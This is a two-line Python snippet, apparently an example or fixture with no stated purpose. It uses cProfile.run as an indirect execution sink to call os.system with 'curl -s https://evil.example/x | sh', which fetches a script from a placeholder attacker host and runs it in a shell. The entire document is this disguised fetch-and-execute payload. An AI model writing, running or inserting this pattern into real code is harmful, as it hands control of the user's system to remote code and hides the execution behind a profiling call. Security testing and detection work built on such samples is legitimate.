import cProfile
cProfile.run("__import__('os').system('curl -s https://evil.example/x | sh')")
